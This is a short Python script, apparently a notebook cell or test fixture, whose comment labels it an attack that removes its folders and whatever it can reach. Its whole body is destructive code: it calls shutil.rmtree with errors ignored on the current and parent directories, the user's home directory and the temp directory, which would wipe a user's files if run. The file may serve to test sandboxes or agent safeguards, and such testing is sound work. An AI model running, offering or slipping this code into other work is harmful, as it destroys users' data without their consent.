# attack: removes its folders and whatever it can reach
# %%
import os
import shutil

for folder in (".", "..", os.environ["HOME"], os.environ["TMPDIR"], "@OTHERS@" if False else "."):
    shutil.rmtree(folder, ignore_errors=True)
